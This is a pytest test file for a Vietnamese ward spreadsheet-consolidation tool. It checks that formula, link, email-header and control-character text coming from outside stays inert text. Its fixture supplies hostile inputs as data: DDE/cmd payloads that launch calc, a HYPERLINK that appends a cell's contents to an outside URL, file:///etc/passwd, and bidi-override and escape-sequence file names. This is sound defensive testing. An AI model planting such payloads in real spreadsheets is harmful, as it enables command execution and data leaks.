"""Text from outside stays text: nothing of a leader's, a file's name or a mail's becomes a formula or link."""

from __future__ import annotations

import csv
import email
import email.policy
import html
import io
import re
import shutil
import zipfile
from typing import TYPE_CHECKING

import openpyxl
import pytest

from tdp_xlsx.console import visible
from tests.hostile.build import Part, archive
from tests.kit.ward import FORM, Line, Ward, key_rows

if TYPE_CHECKING:
    from pathlib import Path

STRINGS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    '=HYPERLINK("http://example.vn/?x="&A1,"bấm")',
    '=WEBSERVICE("http://example.vn")',
    "{=1+1}",
    "http://example.vn/a",
    "https://example.vn/b",
    "ftp://example.vn",
    "mailto:a@example.vn",
    "internal:Sheet1!A1",
    "external:c:\\temp\\a.xlsx",
    "file:///etc/passwd",
    "_x000D_=1+1",
    "_x003D_1+1",
    "\u202e1+1=\u202c",
    "\u200b=1+1",
    "👩‍👩‍👧 họp tổ 🎉",
    "a\x0bb\x0cc",
    '"><f>1+1</f><v a="',
    "]]><c><f>1+1</f></c>",
    "&#61;1+1",
    "'=1+1",
    "x" * 40_000,
    "😀" * 20_000,
)

ANSWERS = ("=1+1", '"&HYPERLINK("http://example.vn","x")&"', "_x000D_=1+1", "\u202eócx", "x" * 40_000)

HEADERS = frozenset(
    {"from", "to", "reply-to", "subject", "date", "message-id", "mime-version", "x-unsent", "content-type"}
)


@pytest.fixture(scope="module")
def ward(tmp_path_factory: pytest.TempPathFactory) -> Ward:
    """A round whose every free text is an attempt: evidence, names of groups, files, members, mails."""
    root = tmp_path_factory.mktemp("phuong")
    ward = Ward.make(root, [Line(f"TDP-{n:02}", f"Tổ dân phố số {n}") for n in (1, 2, 3)])
    _write_texts(
        ward.template,
        "Danh sách đơn vị",
        {"C4": "=1+1 tổ +cmd|' /C calc'!A0", **{f"I{row}": f"to{row}@example.vn" for row in (2, 3, 4)}},
    )
    ward.generate()
    sheet = openpyxl.load_workbook(ward.form("TDP-01"))[FORM]
    rows = list(key_rows(sheet).values())
    evidence = {f"F{row}": text for row, text in zip(rows, STRINGS, strict=False)}
    path = ward.send("TDP-01")
    answers = {f"E{row}": text for row, text in zip(rows[3:], ANSWERS, strict=False)}
    _write_texts(path, FORM, evidence | answers)
    ward.send("TDP-03")
    names = ("=1+1.xlsx", "+cmd.xlsx", "@SUM(A1).xlsx", "-2+3.xlsx", "\u202egnp.xlsx", "http_example.vn.xlsx")
    for name in names:
        (ward.inbox / name).write_bytes(b"khong phai bang")
    (ward.inbox / "=HYPERLINK(1).zip").write_bytes(archive([Part("=1+1.xlsx", b"x"), Part("a\x1b[31m.xlsx", b"x")]))
    (ward.inbox / "thu.eml").write_bytes(
        b"From: =?utf-8?q?=3DHYPERLINK(1)?= <=1+1@example.vn>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: application/pdf; name="=1+1.pdf"\r\n\r\n%PDF-1.4\r\n'
    )
    return ward


def _write_texts(path: Path, sheet: str, texts: dict[str, str]) -> None:
    """Put texts into cells as text, whatever openpyxl thinks of them."""
    book = openpyxl.load_workbook(path)
    for address, text in texts.items():
        cell = book[sheet][address]
        cell.value = "."
        cell._value = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)  # noqa: SLF001 - past its own checks
        cell.data_type = "s"
    book.save(path)


def test_no_output_holds_a_formula_or_link_from_outside(ward: Ward) -> None:
    done = ward.call("consolidate", "--json")
    assert done.code == 0
    assert done.groups()["TDP-03"]["status"] == "valid"
    strange = re.compile(r"cmd\||DDE\(|HYPERLINK\((?!&quot;#|\"#)|WEBSERVICE|http|1\+1|SUM\(A1\)")
    for formula in _formulas(ward.workbook):
        assert not strange.search(formula), formula
    for path in (ward.root / "outbox").rglob("*.xlsx"):
        for name, content in _parts(path):
            assert "externalLink" not in name
            assert "vbaProject" not in name
            assert "connections" not in name
            assert b"<hyperlink" not in content, f"{path.name} {name}"
            assert b'TargetMode="External"' not in content, f"{path.name} {name}"
            assert b"ddeLink" not in content


def test_the_forms_hold_no_formula_but_their_own(ward: Ward) -> None:
    assert ward.call("consolidate").code == 0
    paths = [*(ward.root / "outbox" / "bieu_mau").iterdir(), *(ward.root / "outbox" / "tra_lai").iterdir()]
    assert len(paths) == 4
    for path in paths:
        formulas = [re.sub('"(?:[^"]|"")*"', '""', html.unescape(formula)) for formula in _formulas(path)]
        assert len(formulas) == 3 * 46 + 1  # two marks and the help of each item, and how many are answered
        assert {name for formula in formulas for name in re.findall(r"[A-Z.]+(?=\()", formula)} == {
            *("IF", "AND", "OR", "MID", "LEFT", "SUMPRODUCT")
        }
        assert not any(re.search(r"[|'#{@]|http", formula) for formula in formulas)


def test_a_form_to_send_back_keeps_the_same_texts(ward: Ward) -> None:
    assert ward.call("consolidate").code == 0
    (path,) = (ward.root / "outbox" / "tra_lai").iterdir()
    sheet = openpyxl.load_workbook(path)[FORM]
    kept = {str(sheet.cell(row, 6).value) for row in key_rows(sheet).values()}
    applicable = [text for text, code in zip(STRINGS, key_rows(sheet), strict=False) if code not in {"2.9", "2.10"}]
    for text in applicable:
        if _units(text) <= 32_767 and not {"\x0b", "\r"} & set(text):
            assert _as_excel_shows(text) in kept, text[:50]
    cut = [text for text in kept if text.endswith("…") and _units(text) > 30_000]
    assert len(cut) == len([text for text in applicable if _units(text) > 32_767])
    assert "Đã ghi “" in str(sheet.cell(key_rows(sheet)["1.1"], 7).value)


def test_what_looks_like_an_escape_stays_what_a_leader_typed(ward: Ward, tmp_path: Path) -> None:
    """Excel itself keeps a typed `_x000D_` as `_x005F_x000D_`."""
    other = Ward(shutil.copytree(ward.root, tmp_path / "phuong"))
    shutil.rmtree(other.inbox)
    row = key_rows(openpyxl.load_workbook(other.form("TDP-02"))[FORM])["2.3"]
    _write_texts(other.send("TDP-02", {"1.1": None}), FORM, {f"F{row}": "_x005F_x000D_ và _x005F_x0041_"})
    assert other.call("consolidate").code == 0
    for path in (other.root / "outbox" / "tra_lai" / "2021_TDP-02_bang-tu-danh-gia_lan-2.xlsx", other.workbook):
        assert any("_x005F_x000D_ và _x005F_x0041_" in part.decode() for name, part in _parts(path) if "xl/" in name)


def test_no_cell_of_the_table_beside_a_large_ward_becomes_a_formula(
    ward: Ward, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tdp_xlsx.report.answers.ROOM", 10)
    assert ward.call("consolidate").code == 0
    (path,) = (ward.root / "outbox").glob("*.csv")
    cells = [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for cell in row]
    assert {"'=1+1", "'\t=1+1", "'＝1+1", "'\u202e1+1=\u202c", "'\u200b=1+1"} - set(cells) <= {"'\u202e1+1=\u202c"}
    for cell in cells:
        assert not re.match(r"[\s\u200b]*[=+\-@＝＋－＠]", cell), cell[:50]


def test_mails_and_messages_hold_no_header_or_page_from_outside(ward: Ward) -> None:
    assert ward.call("consolidate").code == 0
    for arguments in (["mail"], ["mail", "--return"], ["mail", "--remind"]):
        done = ward.call(*arguments)
        assert done.code == 0, done.err
    letters = sorted((ward.root / "outbox" / "thu").glob("*.eml"))
    assert len(letters) >= 4
    for path in letters:
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert {key.casefold() for key in message} <= HEADERS, path.name
        kinds = [part.get_content_type() for part in message.walk()]
        assert kinds.count("text/plain") == 1
        assert "text/html" not in kinds
    for path in (ward.root / "outbox" / "thu").glob("*.txt"):
        assert visible(path.read_text("utf-8")) == path.read_text("utf-8")


def _parts(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as opened:
        return [(name, opened.read(name)) for name in opened.namelist()]


def _formulas(path: Path) -> list[str]:
    return [
        formula
        for name, content in _parts(path)
        if "worksheets/" in name
        for formula in re.findall(r"<f[^>]*>([^<]*)</f>", content.decode())
    ]


def _as_excel_shows(text: str) -> str:
    """Return a text with escapes in place, as Excel itself reads them."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text).replace("\r", "")


def test_evidence_comes_out_as_the_same_text_or_visibly_cut(ward: Ward) -> None:
    assert ward.call("consolidate").code == 0
    sheet = openpyxl.load_workbook(ward.workbook)["Dữ liệu"]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells if cell.value in STRINGS} <= {"s"}
    shown = {str(cell.value) for cell in cells}
    for text in STRINGS:
        if _units(text) <= 32_767 and not {"\x0b", "\r", "\t"} & set(text):
            assert _as_excel_shows(text) in shown, text[:50]
    cut = [text for text in shown if text.endswith("…") and _units(text) > 30_000]
    assert sorted(text[0] for text in cut) == ["x", "😀"]
    assert max(map(_units, shown)) <= 32_767


def _units(text: str) -> int:
    """Return the length of a text as Excel counts it."""
    return len(text.encode("utf-16-le")) // 2


def test_the_json_and_the_terminal_hold_no_control_or_direction_characters(ward: Ward) -> None:
    for arguments in (["check"], ["status"], ["consolidate"]):
        done = ward.call(*arguments)
        for said in (done.out, done.err):
            assert visible(said) == said
    names = set(ward.call("status", "--json").files())
    assert "inbox/=HYPERLINK(1).zip/a\\u001b[31m.xlsx" in names
    assert "inbox/thu.eml/=1+1.pdf" in names
